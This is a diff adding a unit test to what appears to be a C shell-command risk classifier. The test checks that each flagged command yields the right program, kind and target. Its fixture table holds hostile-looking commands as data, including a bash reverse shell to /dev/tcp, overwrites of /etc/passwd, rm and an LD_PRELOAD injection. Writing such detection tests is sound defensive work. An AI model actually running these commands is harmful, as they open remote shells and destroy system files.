@@ -300,6 +300,52 @@ a_reason_names_what_is_overwritten(void **state)
     syntax_done(&s);
 }
 
+static const struct {
+    const char *line;
+    unsigned fact;
+    enum risk_kind kind;
+    const char *program, *about; /* NULL: nothing by name */
+} reasons[] = {
+    {"rm x", RISK_DESTRUCTIVE, RISK_KIND_PROGRAM, "rm", NULL},
+    {"timeout 5 ssh host ls", RISK_NETWORK, RISK_KIND_HOST, "ssh", "host"},
+    {"bash -i >& /dev/tcp/h/1", RISK_NETWORK, RISK_KIND_HOST, "", "h"},
+    {"cp a /etc/passwd", RISK_DESTRUCTIVE, RISK_KIND_PATH, "cp", "/etc/passwd"},
+    {"ls > /etc/passwd", RISK_DESTRUCTIVE, RISK_KIND_PATH, ">", "/etc/passwd"},
+    {"sh a.sh", RISK_UNKNOWN, RISK_KIND_FILE, "sh", "a.sh"},
+    {"./a b", RISK_UNKNOWN, RISK_KIND_FILE, "./a", "./a"},
+    {"LD_PRELOAD=x ls", RISK_OPAQUE, RISK_KIND_VARIABLE, "", "LD_PRELOAD"},
+    {"$x", RISK_OPAQUE, RISK_KIND_UNREAD, "", NULL},
+    {"nosuchprogram", RISK_UNKNOWN, RISK_KIND_UNLISTED, "nosuchprogram", NULL},
+};
+
+/* What a program would have to look for in the words stands in fields. */
+static void
+a_reason_has_its_program_its_kind_and_its_object(void **state)
+{
+    (void)state;
+    for (size_t i = 0; i < N_OF(reasons); i++) {
+        const struct risk_reason *v;
+        struct syntax s;
+        struct risk r;
+        size_t at = 0;
+
+        read_line(reasons[i].line, &s, &r);
+        while (at < r.n_reasons && r.reasons[at].fact != reasons[i].fact)
+            at++;
+        if (at == r.n_reasons)
+            fail_msg("%s: no reason", reasons[i].line);
+        v = &r.reasons[at];
+        if (v->kind != reasons[i].kind ||
+            strcmp(v->program, reasons[i].program) != 0 ||
+            strcmp(v->about ? v->about : "-",
+                   reasons[i].about ? reasons[i].about : "-") != 0)
+            fail_msg("%s: kind %d, program '%s', about '%s'", reasons[i].line,
+                     v->kind, v->program, v->about ? v->about : "-");
+        risk_done(&r);
+        syntax_done(&s);
+    }
+}
+
 static void
 a_fact_of_one_call_is_not_the_lines(void **state)
 {
@@ -359,6 +405,7 @@ main(void)
         cmocka_unit_test(a_call_carries_what_its_wrappers_say),
         cmocka_unit_test(what_stands_in_a_text_points_at_the_text),
         cmocka_unit_test(a_reason_names_what_is_overwritten),
+        cmocka_unit_test(a_reason_has_its_program_its_kind_and_its_object),
         cmocka_unit_test(a_fact_of_one_call_is_not_the_lines),
         cmocka_unit_test(what_is_too_long_or_too_deep_is_opaque),
     };
